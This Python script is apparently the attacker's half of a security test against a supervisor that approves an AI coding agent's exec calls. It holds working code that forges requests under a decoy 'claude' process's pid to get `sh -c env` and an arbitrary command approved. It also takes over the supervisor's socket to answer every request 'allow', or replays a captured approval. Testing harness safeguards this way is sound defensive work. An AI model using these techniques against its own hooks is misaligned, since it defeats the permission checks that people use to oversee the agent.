#!/usr/bin/env python3
"""Issue 15 row 2, the attacker's half: talks to a session's supervisor, or
takes its place, on the abstract socket named by HOOKSHIM_SOCK.

  forged_supervisor.py capture FILE    ask the real supervisor about a
                                       harmless exec; save its raw answer
  forged_supervisor.py own CMD...      ask about `sh -c env` as if a
                                       process named claude asked (a
                                       decoy's pid), then exec CMD in
                                       place (forged_own_shell.sh)
  forged_supervisor.py serve LOG [FILE] bind the name (its owner must be
                                       gone), answer every request with
                                       FILE's bytes (a replay) or a fresh
                                       "allow"; one line in LOG per request;
                                       prints "ready" once listening
"""
import os
import socket
import struct
import subprocess
import sys
import time


def field(tag, data):
    if isinstance(data, str):
        data = data.encode()
    return tag.encode() + struct.pack('<I', len(data)) + data


def addr():
    return '\0' + os.environ['HOOKSHIM_SOCK'].lstrip('@')


def ask(pid, exe, argv):
    """An exec question as if pid asked; the raw answer."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(addr())
    s.sendall(field('o', 'exec') + field('p', 'pre') +
              field('i', str(pid)) + field('c', os.getcwd()) +
              field('e', exe) + b''.join(field('a', a) for a in argv) +
              b'\0\0\0\0\0')
    s.shutdown(socket.SHUT_WR)
    reply = b''
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        reply += chunk
    return reply


def fields(reply):
    """The answer's TLV fields, tag -> bytes."""
    out, at = {}, 0
    while at + 5 <= len(reply) and reply[at] != 0:
        n = struct.unpack('<I', reply[at + 1:at + 5])[0]
        out[chr(reply[at])] = reply[at + 5:at + 5 + n]
        at += 5 + n
    return out


def own(cmd):
    # a decoy whose command line names Claude Code
    decoy = subprocess.Popen(['claude', '30'], executable='/bin/sleep')
    time.sleep(0.1)
    reply = ask(decoy.pid, '/bin/sh', ['sh', '-c', 'env'])
    decoy.kill()
    # the forgery works as far as it can: its own answer says "own"
    if fields(reply).get('O') != b'1':
        sys.exit('own: the forged question was not answered own: %r' % reply)
    print('forged: answered own', flush=True)
    os.execv(cmd[0], cmd)


def capture(path):
    reply = ask(os.getpid(), '/bin/true', ['true'])
    if b'allow' not in reply:
        sys.exit('capture: the real supervisor did not allow: %r' % reply)
    with open(path, 'wb') as f:
        f.write(reply)


def serve(log, replay):
    # Opened now: once the supervisor is gone, a policy that fails
    # closed would refuse this process's own opens too.
    logf = open(log, 'a')
    answer = (open(replay, 'rb').read() if replay else
              field('v', 'allow') + b'\0\0\0\0\0')
    print('waiting', flush=True)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    while True:  # until the real supervisor is gone and the name free
        try:
            s.bind(addr())
            break
        except OSError:
            time.sleep(0.02)
    s.listen(64)
    print('ready', flush=True)
    while True:
        c, _ = s.accept()
        # Logged at once: the agent may kill us right after its calls.
        logf.write('request\n')
        logf.flush()
        c.settimeout(5)
        try:
            while c.recv(65536):
                pass
        except OSError:
            pass
        try:
            c.sendall(answer)
        except OSError:
            pass
        c.close()


if sys.argv[1] == 'capture':
    capture(sys.argv[2])
elif sys.argv[1] == 'own':
    own(sys.argv[2:])
else:
    serve(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
